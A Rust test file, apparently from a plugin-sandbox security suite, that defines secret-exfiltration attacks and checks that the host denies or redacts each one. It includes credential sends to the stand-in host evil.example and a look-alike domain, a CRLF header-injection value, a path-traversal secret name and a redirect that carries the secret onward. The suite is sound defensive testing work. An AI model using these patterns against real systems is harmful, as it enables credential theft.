//! Plugins that want to hold a secret, in whatever clothing.

use std::sync::Arc;

use tollgate_guests::guest::gateway;
use tollgate_guests::value::{Value, bare, case, plain, record, text};

use super::rooms_stand;
use crate::attack::{Attack, Verdict};
use crate::ground::Ground;
use crate::rooms::{KEY, OTHER_KEY, OTHER_SECRET, Rooms, SECRET};
use crate::senders::{GRANTED, Senders, Sent, request, sender};
use crate::trap::Trap;

/// Each: the attack that sends it, where to, and with which secret. A path is the provider's that works with the plugin.
type Request = (&'static str, &'static str, fn() -> Value);

const REQUESTS: [Request; 12] = [
    ("echo-bearer", "/echo", || bearer(KEY)),
    ("echo-basic", "/echo", || basic(KEY)),
    ("echo-header", "/error", || header("x-key", KEY)),
    ("echo-hexadecimal", "/hex", || bearer(KEY)),
    ("error-text", "/nonsense", || bearer(KEY)),
    ("secret-for-a-stranger", "https://evil.example/", || bearer(KEY)),
    ("secret-for-a-look-alike", "https://api.example.com.evil.example/", || bearer(KEY)),
    ("token-at-a-stranger", "/echo", token_elsewhere),
    ("secret-of-another", "/echo", || bearer(OTHER_KEY)),
    ("secret-by-a-path", "/echo", || bearer("../honest-1/other-token")),
    ("header-around-a-secret", "/echo", || header("x-a: b\r\nx-key", KEY)),
    ("redirect-with-a-secret", "/redirect", || bearer(KEY)),
];

/// What a sent request must have come to.
type Judge = fn(&Sent<'_>) -> Verdict;

fn sends(name: &'static str, tries: &'static str, judge: Judge) -> Attack {
    Attack::new("secrets", name, tries, move |ground: Ground| async move {
        let senders: Arc<Senders> = ground.shared("secrets", || Senders::of(&ground, requests)).await;
        let number = REQUESTS.iter().position(|row| row.0 == name).ok_or("the request is missing")?;
        judge(&senders.send(number, vec![GRANTED.to_owned(), senders.trap.host()]).await?)
    })
}

fn requests(trap: &Trap) -> Vec<Value> {
    let request = |(_, to, auth): &Request| {
        let url = if to.starts_with('/') { format!("http://{}{to}", trap.host()) } else { (*to).to_owned() };
        request(&url).with("auth", auth())
    };
    REQUESTS.iter().map(request).collect()
}

pub fn attacks() -> Vec<Attack> {
    vec![
        sends("echo-bearer", "has an echo service answer the bearer token", blacked_out),
        sends("echo-basic", "has an echo service answer the password, in base64", blacked_out),
        sends("echo-header", "has an echo service answer a header with the secret", blacked_out),
        sends("echo-hexadecimal", "has an echo service answer it in hexadecimal", blacked_out),
        sends("error-text", "has its provider break off, and reads the error", |sent| {
            clean(&format!("{}{:?}", sent.shown, sent.outcome))
        }),
        sends("secret-for-a-stranger", "sends the secret to a host that was not granted", |sent| {
            denied(sent, "is not granted")
        }),
        sends("secret-for-a-look-alike", "sends it to a name that begins like the granted one", |sent| {
            denied(sent, "is not granted")
        }),
        sends("token-at-a-stranger", "has the host fetch a token at a stranger's, with the client's secret", |sent| {
            denied(sent, "is not granted")
        }),
        sends("secret-of-another", "names a secret that only another plugin has", |sent| denied(sent, "")),
        sends("secret-by-a-path", "names another plugin's secret by a path", |sent| denied(sent, "")),
        sends("header-around-a-secret", "ends the header before the secret", |sent| denied(sent, "header")),
        sends("redirect-with-a-secret", "has the secret carried on to another address", |sent| {
            if sent.seen.iter().any(|request| request.contains("/reached")) {
                return Err("it was carried on".to_owned());
            }
            Ok("302 is the answer; nothing followed".to_owned())
        }),
        Attack::new(
            "secrets",
            "secret-in-the-settings",
            "reads its own settings for the secret",
            |ground: Ground| async move {
                // The settings are a list of (key, value) at 8 of what it is passed; the first one's value is shown.
                let first = "(local.set $at (i32.load offset=8 (i32.load offset=8 (local.get 0))))
                (local.set $bytes (i32.load offset=12 (i32.load offset=8 (local.get 0))))";
                let rooms = Rooms::around(ground.patient(), &gateway().showing(first)).await;
                let shown = rooms.shown().await?;
                clean(&shown)
            },
        ),
        kept(),
        signed(),
        logged_words(),
    ]
}

fn part(kind: &str, words: &str) -> Value {
    case(kind, text(words))
}

fn bearer(key: &str) -> Value {
    case("bearer", text(key))
}

fn basic(key: &str) -> Value {
    case("basic", record(&[("user", part("text", "client")), ("password", part("secret", key))]))
}

fn header(name: &str, key: &str) -> Value {
    let value = Value::List(vec![part("text", "key "), part("secret", key)]);
    case("header", record(&[("name", text(name)), ("value", value)]))
}

/// No secret stands in what a plugin or its reader saw.
fn clean(shown: &str) -> Verdict {
    let forms = |secret: &str| {
        let hex = crate::trap::hexadecimal(secret);
        [
            secret.to_owned(),
            hex,
            "cGxhbnRlZFNlY3Jld".to_owned(),
            "wbGFudGVkU2VjcmV0".to_owned(),
            "BsYW50ZWRTZWNyZX".to_owned(),
        ]
    };
    let found =
        [SECRET, OTHER_SECRET].iter().flat_map(|secret| forms(secret)).find(|form| shown.contains(form.as_str()));
    match found {
        Some(form) => Err(format!("{form} is in {shown}")),
        None => Ok(shown.chars().take(120).collect()),
    }
}

/// The provider did get the secret, and nobody else did.
fn blacked_out(sent: &Sent<'_>) -> Verdict {
    let shown = &sent.shown;
    // It must have gone out, or nothing was tried.
    if !sent.seen.iter().any(|request| request.contains("authorization") || request.contains("x-key")) {
        return Err(format!("no secret was sent: {shown}"));
    }
    if !shown.contains("[secret]") {
        return Err(format!("nothing was blacked out: {shown}"));
    }
    clean(shown)
}

fn token_elsewhere() -> Value {
    let credentials = record(&[
        ("token-url", text("https://evil.example/token")),
        ("id", part("text", "client")),
        ("secret", part("secret", KEY)),
        ("scope", bare("none")),
    ]);
    case("client-credentials", credentials)
}

/// The plugin is told no, nothing was sent, and no secret stands in the reason.
fn denied(sent: &Sent<'_>, words: &str) -> Verdict {
    sent.denied(words).and_then(|how| clean(&how))
}

fn kept() -> Attack {
    let tries = "has the host keep its provider's words as a secret, where no webhook is set up";
    Attack::new("secrets", "secret-replaced", tries, |ground: Ground| async move {
        let trap = Trap::open().await;
        let keep = record(&[("pointer", text("/a")), ("key", text(KEY))]);
        let request = request(&format!("http://{}/echo", trap.host())).with("keep", Value::List(vec![keep]));
        let rooms = Rooms::with_provider(ground.patient(), &sender(request), &trap).await;
        let shown = rooms.shown().await?;
        // The sandbox itself refuses it; egress is not even asked.
        if !shown.contains("only then") || !trap.seen().is_empty() {
            return Err(format!("sent {:?}, and the plugin shows {shown}", trap.seen()));
        }
        rooms_stand(&rooms, shown).await
    })
}

fn signed() -> Attack {
    let tries = "signs with a secret that only another plugin has";
    Attack::new("secrets", "signature-of-another", tries, |ground: Ground| async move {
        let first = "(i32.store8 (i32.const 64) (i32.const 1))
            (i32.store (i32.const 68) (i32.const 3072)) (i32.store (i32.const 72) (i32.const 11))
            (call $digest (i32.const 0) (i32.const 64) (i32.const 1) (i32.const 512))
            (if (i32.eqz (i32.load8_u (i32.const 512))) (then unreachable))
            (local.set $at (i32.load (i32.const 520))) (local.set $bytes (i32.load (i32.const 524)))";
        let guest = gateway()
            .imports("signing", "digest", "(param i32 i32 i32 i32)")
            .outside(&format!("(data (i32.const 3072) \"{OTHER_KEY}\")"))
            .showing(first);
        let rooms = Rooms::around(ground.patient(), &guest).await;
        let shown = rooms.shown().await?;
        if shown != OTHER_KEY {
            return Err(format!("it was not told that there is none: {shown}"));
        }
        rooms_stand(&rooms, format!("`no-secret({shown})`")).await
    })
}

fn logged_words() -> Attack {
    let tries = "writes a secret, which it came to know elsewhere, into an error for staff";
    Attack::new("secrets", "secret-in-an-error", tries, |ground: Ground| async move {
        let words = |kind: &str| case(kind, text(format!("key {SECRET} refused")));
        let refusal = record(&[("client", plain(format!("no {SECRET}"))), ("staff", text(SECRET))]);
        let mut said = String::new();
        for error in [words("rejected"), words("unavailable"), words("unknown"), case("declined", refusal)] {
            let guest = gateway().whole("pay-now", case("err", error));
            let rooms = Rooms::around(ground.patient(), &guest).await;
            said = format!("{said} {:?}", rooms.pay_now().await);
        }
        clean(said.trim())
    })
}
